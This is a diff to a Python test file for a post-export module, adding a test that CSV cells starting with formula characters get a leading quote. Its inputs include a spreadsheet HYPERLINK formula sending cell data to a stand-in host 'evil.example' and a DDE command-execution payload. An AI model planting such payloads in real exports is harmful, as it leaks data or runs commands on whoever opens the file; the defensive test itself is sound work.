@@ -5,7 +5,15 @@ from __future__ import annotations
 import json
 
 from tests.helpers import post_dict
-from wall.export import CSV_COLUMNS, archive_post, csv_row, jsonl_line, media_files, media_path
+from wall.export import (
+    CSV_COLUMNS,
+    archive_post,
+    csv_cell,
+    csv_row,
+    jsonl_line,
+    media_files,
+    media_path,
+)
 from wall.models import Post
 
 
@@ -24,7 +32,7 @@ def test_csv_row_follows_the_header() -> None:
     post = Post.from_dict(post_dict("1", "hello", photos=[{"url": "/media/p/a.jpg"}]))
     row = dict(zip(CSV_COLUMNS, csv_row(post), strict=True))
     assert row["id"] == "test:1" and row["text"] == "hello"
-    assert row["author_handle"] == "@ada@example.org" and row["photo_count"] == "1"
+    assert row["author_handle"] == "'@ada@example.org" and row["photo_count"] == "1"
 
 
 def test_media_path_accepts_only_our_own_files() -> None:
@@ -60,3 +68,28 @@ def test_archive_post_keeps_copied_media_relative_and_drops_the_rest() -> None:
         ("media/p/aa/one.jpg", "media/p/aa/one-t.jpg")
     ]
     assert archived.author.avatar_url == ""
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised() -> None:
+    """A cell starting with = + - @ tab or CR gets a leading quote, so a spreadsheet shows it
+    as text instead of running it; other cells are left as they are."""
+    post = Post.from_dict(
+        post_dict(
+            "csv",
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            author={"handle": "@ada@example.org", "display_name": "+cmd|' /C calc'!A0"},
+            content_warning="-2+3",
+            language="\tx",
+            hashtags=["=sum"],
+        )
+    )
+    row = dict(zip(CSV_COLUMNS, csv_row(post), strict=True))
+    assert row["text"].startswith("'=HYPERLINK(")
+    assert row["author_name"] == "'+cmd|' /C calc'!A0"
+    assert row["author_handle"] == "'@ada@example.org"
+    assert row["content_warning"] == "'-2+3"
+    assert row["language"] == "'\tx"
+    assert row["source"] == "test" and row["photo_count"] == "0"
+    for start in "=+-@\t\r":
+        assert csv_cell(f"{start}1") == f"'{start}1"
+    assert csv_cell("plain") == "plain" and csv_cell("") == ""
